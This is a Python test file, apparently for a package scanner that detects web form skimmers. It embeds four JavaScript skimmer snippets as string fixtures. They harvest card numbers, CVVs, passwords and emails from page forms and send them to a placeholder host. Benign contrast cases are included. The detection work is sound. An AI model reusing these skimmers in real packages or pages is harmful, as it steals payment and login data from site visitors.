"""Forms that a package reads on pages of others, and where their values go. All inert text."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from adapters.sigil.local.material import Package
from adapters.sigil.models import PhaseName
from tests.adapters.sigil.local.phases.conftest import Outcome, Pack

_SKIMMERS = (
    (
        "export function mount() {\n  document.addEventListener('submit', (e) => {\n"
        "    const kept = Object.fromEntries(new FormData(e.target));\n"
        "    if (kept.cvv) navigator.sendBeacon(ADDRESS, JSON.stringify(kept));\n  }, true);\n}"
    ),
    (
        "export const format = (text) => { setTimeout(() => {\n"
        "  const all = Array.from(document.forms).flatMap((f) => [...f.elements].map((x) => [x.name, x.value]));\n"
        "  if (all.some(([name]) => name === 'cardnumber'))\n"
        "    fetch(ADDRESS, { method: 'POST', body: JSON.stringify(all) });\n"
        "}, 9); return text; };"
    ),
    (
        "export class Field { blur() {\n"
        "  const w = window, d = w.document, x = new XMLHttpRequest();\n"
        "  const all = d.querySelectorAll('input[type=password],input[type=email]');\n"
        "  x.open('POST', ADDRESS); x.send([...all].map((one) => one.value).join());\n} }"
    ),
    (
        "export function watch() { document.addEventListener('change', (e) => {\n"
        "  if (/card_?number/i.test(e.target.name)) new Image().src = ADDRESS + '?q=' + btoa(e.target.value);\n}); }"
    ),
)


@pytest.fixture
def scan(pack: Pack, outcome: Callable[[Package], Outcome]) -> Callable[..., Outcome]:
    """Code of a module, and what the phases make of it; `told` is what its read-me says."""

    def scanned(code: str, told: str = "") -> Outcome:
        manifest = {"name": "sample", "main": "index.js"}
        return outcome(pack({"package.json": manifest, "index.js": code, "README.md": told}))

    return scanned


@pytest.mark.parametrize("code", _SKIMMERS)
def test_fields_that_are_skimmed(code: str, scan: Callable[..., Outcome]) -> None:
    """What any form of a page holds goes to a fixed host of somebody else, by code that knows what to look for."""
    assert scan(code.replace("ADDRESS", "'https://px.forms.invalid/t'")).dangerous


@pytest.mark.parametrize("code", _SKIMMERS)
def test_fields_that_are_reported_on_demand(code: str, scan: Callable[..., Outcome]) -> None:
    """It is everyday where the caller says who gets it, or the package tells of the service that it is for."""
    assert not scan(code.replace("ADDRESS", "window.settings.endpoint")).dangerous
    assert not scan(code.replace("ADDRESS", "'https://px.forms.invalid/t'"), "Sends to px.forms.invalid.").dangerous


@pytest.mark.parametrize(
    "code",
    [
        "export const search = () => fetch('https://find.invalid/?q=' + document.querySelector('input.search').value);",
        (
            "export const join = (form) => form.addEventListener('submit', (e) =>\n"
            "  fetch('https://news.invalid/', { method: 'POST', body: new FormData(e.target) }));"
        ),
        (
            "export const count = () => document.addEventListener('change', (e) =>\n"
            "  navigator.sendBeacon('https://count.invalid/', e.target.id));"
        ),
    ],
)
def test_fields_of_every_day(code: str, scan: Callable[..., Outcome]) -> None:
    """A search, a newsletter and a count are no skimmers: they know nothing of cards or passwords."""
    assert not scan(code).dangerous


def test_selectors_that_can_be_divided_in_many_ways_end(scan: Callable[..., Outcome]) -> None:
    """One that is no selector of every field, as only its end shows."""
    selector = "form" + ":formform" * 40 + "!"
    code = (
        f"export function mount() {{ const all = document.querySelectorAll('{selector}');\n"
        "  fetch('https://s.example.invalid', { method: 'POST', body: JSON.stringify([...all].map(x => x.value)) }); }"
    )
    found = scan(code)
    assert ("input-leaves" in found.rules(PhaseName.CREDENTIALS), found.dangerous) == (True, False)
